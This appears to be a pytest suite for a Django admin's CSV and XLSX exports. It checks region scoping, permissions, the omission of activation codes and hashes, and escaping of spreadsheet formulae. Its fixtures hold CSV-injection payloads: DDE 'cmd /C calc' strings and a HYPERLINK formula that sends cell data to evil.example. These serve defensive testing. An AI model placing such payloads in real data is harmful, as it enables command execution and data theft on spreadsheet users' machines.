"""Exports of changelists and of history: the filtered rows in the user's scope, no secret."""

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
import tablib
from import_export.formats.base_formats import XLSX

from licensing.models import License
from partners.admin_tools import spreadsheet_cell, spreadsheet_safe
from tests.factories import ContactFactory, PartnerFactory
from tests.security.world import build

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    return build()


def export(client, changelist_url, query="", fmt="csv"):
    """Fill the export form as a user would: every field ticked, then the format."""
    url = f"{changelist_url}export/{query}"
    page = client.get(url)
    assert page.status_code == 200, page.status_code
    html = page.content.decode()
    fields = re.findall(r'name="([a-z]+resource_[a-z_]+)"', html)
    formats = dict(
        (label, value)
        for value, label in re.findall(r'<option value="(\d+)"[^>]*>([a-z]+)</option>', html)
    )
    data = {"format": formats[fmt], "resource": "0", **dict.fromkeys(fields, "on")}
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_license_export_has_the_filtered_rows_and_no_activation_code(client, world):
    client.force_login(world.users["lt"])
    response = export(client, "/admin/licensing/license/", "?state__exact=active")
    rows = csv_rows(response)
    active = License.objects.filter(state="active")
    assert sorted(int(r["ID"]) for r in rows) == sorted(active.values_list("pk", flat=True))
    assert "Activation code" not in rows[0]
    body = response.content.decode()
    for lic in License.objects.exclude(activation_code=""):
        assert lic.activation_code not in body


def test_channel_manager_exports_only_her_region(client, world):
    client.force_login(world.users["cm_a"])
    rows = csv_rows(export(client, "/admin/partners/partner/"))
    assert [r["Name"] for r in rows] == ["Partner A"]
    rows = csv_rows(export(client, "/admin/licensing/license/"))
    assert {r["Partner"] for r in rows} == {world.regions["a"]["partner"].name}


def test_xlsx_export_opens_as_a_workbook(client, world):
    client.force_login(world.users["auditor"])
    response = export(client, "/admin/partners/partner/", fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == ["Partner A", "Partner B"]


def test_token_export_leaves_the_hash_out(client, world):
    client.force_login(world.users["lt"])
    rows = csv_rows(export(client, "/admin/ipp/infrastructuretoken/"))
    assert rows and "key_hash" not in rows[0]


def test_auditor_exports_history_of_the_filtered_rows(client, world):
    client.force_login(world.users["auditor"])
    response = client.get("/admin/licensing/license/export-history/?state__exact=active")
    rows = csv_rows(response)
    active_ids = set(License.objects.filter(state="active").values_list("pk", flat=True))
    assert {int(r["ID"]) for r in rows} == active_ids
    assert {"Who", "When (UTC)", "What changed", "Why"} <= set(rows[0])
    assert "provisioned" in {r["Why"] for r in rows}
    body = response.content.decode()
    for lic in License.objects.exclude(activation_code=""):
        assert lic.activation_code not in body
    xlsx = client.get("/admin/licensing/license/export-history/?format=xlsx")
    assert openpyxl.load_workbook(io.BytesIO(xlsx.content)).active.max_row > len(rows)


def test_history_export_follows_the_region_scope(client, world):
    client.force_login(world.users["cm_a"])
    rows = csv_rows(client.get("/admin/partners/partner/export-history/"))
    assert {r["Record"] for r in rows} == {"Partner A"}


def test_export_needs_the_view_permission(client, world):
    client.force_login(world.users["cm_a"])  # no permission on deployment checks
    assert client.get("/admin/ipp/deploymentcheck/export/").status_code == 403
    assert client.get("/admin/ipp/deploymentcheck/export-history/").status_code == 403


def test_license_export_as_xlsx_keeps_dates_readable(client, world):
    client.force_login(world.users["lt"])
    response = export(client, "/admin/licensing/license/", fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[1]]
    assert "Approved at" in headers and "Activation code" not in headers
    assert sheet.max_row == License.objects.count() + 1


# OWASP CSV injection: a value that starts with one of these is a formula to a spreadsheet.
FORMULAE = {
    "partner": "=cmd|' /C calc'!A0",
    "contact": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
}


@pytest.fixture
def formulae(db):
    partner = PartnerFactory(name=FORMULAE["partner"])
    ContactFactory(partner=partner, name=FORMULAE["contact"])
    for key in ("plus", "minus", "at", "tab", "return"):
        ContactFactory(name=FORMULAE[key])  # one technical contact per partner
    return partner


def cells(response, fmt):
    """Every cell of an export, as a spreadsheet reads it (formulae as formulae)."""
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_live_formula(response, fmt, values):
    found = cells(response, fmt)
    if fmt == "xlsx":
        assert not [c.coordinate for c in found if c.data_type == "f"], "a formula cell"
        found = [c.value for c in found]
        # XML reads a carriage return back as a line feed.
        values = [value.replace("\r", "\n") for value in values]
    for value in values:
        assert value not in found, f"{value!r} exported as it is"
        assert f"'{value}" in found, f"{value!r} not exported as text"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_list_exports_turn_formulae_into_text(client, licensing_user, formulae, fmt):
    client.force_login(licensing_user)
    response = export(client, "/admin/partners/partner/", fmt=fmt)
    assert_no_live_formula(response, fmt, [FORMULAE["partner"]])
    response = export(client, "/admin/partners/contact/", fmt=fmt)
    assert_no_live_formula(response, fmt, [v for k, v in FORMULAE.items() if k != "partner"])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_history_exports_turn_formulae_into_text(client, licensing_user, formulae, fmt):
    client.force_login(licensing_user)
    response = client.get(f"/admin/partners/partner/export-history/?format={fmt}")
    assert_no_live_formula(response, fmt, [FORMULAE["partner"]])
    response = client.get(f"/admin/partners/contact/export-history/?format={fmt}")
    # A contact's history names it as "name (role, partner)": the cell starts as the name.
    found = cells(response, fmt)
    if fmt == "xlsx":
        assert not [c.coordinate for c in found if c.data_type == "f"], "a formula cell"
        found = [c.value for c in found if isinstance(c.value, str)]
    for key, value in FORMULAE.items():
        if key != "partner":
            value = value.replace("\r", "\n") if fmt == "xlsx" else value
            assert not [c for c in found if c.startswith(value)], f"{value!r} as it is"
            assert [c for c in found if c.startswith("'" + value)], f"{value!r} not as text"


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Lisbon", "Lisbon"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        # Numbers stay numbers: a number cell, and a number that the CSV list export
        # wrote as text (no formula can hide in one).
        (-5, -5),
        (Decimal("-1500.50"), Decimal("-1500.50")),
        (-0.25, -0.25),
        ("-1500.50", "-1500.50"),
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        ("-1500.50+cmd|' /C calc'!A0", "'-1500.50+cmd|' /C calc'!A0"),
    ],
)
def test_spreadsheet_cell_quotes_formulae_and_leaves_numbers_alone(value, exported):
    assert spreadsheet_cell(value) == exported
    assert type(spreadsheet_cell(value)) is type(exported)


def test_negative_numbers_stay_number_cells_in_xlsx():
    dataset = tablib.Dataset(
        [-5, Decimal("-1500.50"), "-1500.50", "=1+1"], headers=["a", "b", "c", "d"]
    )
    workbook = XLSX().export_data(spreadsheet_safe(dataset))
    row = next(openpyxl.load_workbook(io.BytesIO(workbook)).active.iter_rows(min_row=2))
    assert [c.data_type for c in row] == ["n", "n", "s", "s"]
    assert [c.value for c in row] == [-5, -1500.5, "-1500.50", "'=1+1"]
